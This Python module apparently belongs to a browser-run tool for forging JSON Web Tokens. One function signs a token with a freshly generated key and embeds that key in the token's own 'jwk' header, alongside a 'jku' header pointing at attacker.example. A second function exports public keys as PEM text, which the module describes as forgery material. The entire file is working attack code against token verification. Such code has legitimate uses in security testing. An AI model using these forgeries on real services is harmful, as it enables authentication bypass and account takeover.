"""Forgeries that need the browser's cryptography, and public keys as text."""

from collections.abc import Mapping
from typing import Any

import js
from pyodide.ffi import to_js

from ...browser.webcrypto import imported, parameters_of
from ...tokens.jws import compact, parse_token


async def signed_with_a_key_of_its_own(payload: Mapping[str, Any]) -> str:
    """A token with the key that it was signed with in its own header, which any attacker can make."""
    pair = await js.crypto.subtle.generateKey(parameters_of("ES256"), True, to_js(["sign", "verify"]))
    jwk = (await js.crypto.subtle.exportKey("jwk", pair.publicKey)).to_py()
    header = {
        "alg": "ES256",
        "typ": "JWT",
        "jwk": {name: jwk[name] for name in ("kty", "crv", "x", "y")},
        "jku": "https://attacker.example/keys.json",
    }
    unsigned = parse_token(compact(header, payload))
    made = await js.crypto.subtle.sign(parameters_of("ES256"), pair.privateKey, to_js(unsigned.signing_input))
    return compact(header, payload, made.to_bytes())


async def public_key_as_text(jwk: Mapping[str, Any] | None, algorithm: str) -> str:
    """A public key in PEM, as it stands in many configurations; a new key if none is given."""
    if jwk is None:
        pair = await js.crypto.subtle.generateKey(parameters_of("ES256"), True, to_js(["sign", "verify"]))
        key = pair.publicKey
    else:
        key = await imported(jwk, algorithm, "verify")
    exported = await js.crypto.subtle.exportKey("spki", key)
    text = str(js.btoa("".join(map(chr, exported.to_bytes()))))
    lines = [text[place : place + 64] for place in range(0, len(text), 64)]
    return "\n".join(["-----BEGIN PUBLIC KEY-----", *lines, "-----END PUBLIC KEY-----", ""])
